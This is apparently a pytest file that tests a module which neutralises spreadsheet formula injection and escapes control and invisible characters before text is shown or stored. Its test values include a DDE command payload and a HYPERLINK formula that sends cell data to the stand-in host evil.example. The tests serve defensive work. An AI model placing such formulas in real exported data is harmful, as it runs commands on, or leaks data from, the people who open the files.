"""bridge.text: text made safe to show and to store; what a spreadsheet would run is neutralised."""

from __future__ import annotations

import pytest

from bridge.text import (
    csv_cell,
    escape_undecodable,
    has_control,
    neutralise_formula,
    printable,
    unneutralise_formula,
)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ('+HYPERLINK("https://evil.example/?"&A1,"x")', '\'+HYPERLINK("https://evil.example/?"&A1,"x")'),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # a spreadsheet that trims cells on import would still see the formula
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign: a formula in Excel's East Asian editions
        ("+41 44 123 45 67", "'+41 44 123 45 67"),  # a phone number stays text, not a sum
        ("Anna Muster", "Anna Muster"),
        ("044 123 45 67", "044 123 45 67"),
        ("'=already", "'=already"),  # a leading ' is no formula: nothing to add (reads back as =already)
        ("", ""),
        ("a=b", "a=b"),  # only the first character counts
    ],
)
def test_neutralise_formula(value: str, written: str) -> None:
    assert neutralise_formula(value) == written
    if written != value:
        assert unneutralise_formula(written) == value


def test_unneutralise_keeps_a_quote_that_neutralise_did_not_add() -> None:
    assert unneutralise_formula("'quoted'") == "'quoted'"
    assert unneutralise_formula("'") == "'"


def test_csv_cell_makes_controls_visible_first_and_keeps_numbers() -> None:
    assert csv_cell("\t=1+1") == "\\x09=1+1"  # visible, and so no longer led by a tab
    assert csv_cell("\x1b=1") == "\\x1b=1"
    assert csv_cell("=1\n=2") == "'=1\\x0a=2"
    assert csv_cell(-2) == -2
    assert csv_cell(None) is None


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("plain 079 123", "plain 079 123"),
        ("\x1b[2J\x07", "\\x1b[2J\\x07"),
        ("\x00nul", "\\x00nul"),
        ("\u202eevil", "\\u202eevil"),
        # invisible but not control: shown, so that nothing hides in a value
        ("079\u200b123", "079\\u200b123"),
        ("\ufeffbom", "\\ufeffbom"),
        ("\u2060joined", "\\u2060joined"),
        # what names in Persian, Indic scripts, Arabic and emoji sequences need stays as it is
        (
            "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
            "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        ),
        ("👨\u200d👩\u200d👧", "👨\u200d👩\u200d👧"),
        ("\u200f\u05e9\u05dc\u05d5\u05dd\u200e", "\u200f\u05e9\u05dc\u05d5\u05dd\u200e"),
        ("\udcff", "\\udcff"),  # a lone surrogate
        ("Zoë 😀", "Zoë 😀"),  # letters and emoji are printable
    ],
)
def test_printable(value: str, shown: str) -> None:
    assert printable(value) == shown


def test_zero_width_characters_are_shown_but_do_not_make_an_id_invalid() -> None:
    assert not has_control("079\u200b123")
    assert has_control("079\u202e123")


@pytest.mark.parametrize(
    ("value", "stored"),
    [
        ("/C:\udcff", "/C:\\xff"),
        ("a\udc80b\udcc3", "a\\x80b\\xc3"),
        ("\ud800", "\\ud800"),  # not from a byte: a UTF-16 half
        ("fine\u200b\x00", "fine\u200b\x00"),  # only what cannot be encoded is escaped here
    ],
)
def test_escape_undecodable(value: str, stored: str) -> None:
    assert escape_undecodable(value) == stored
    escape_undecodable(value).encode()
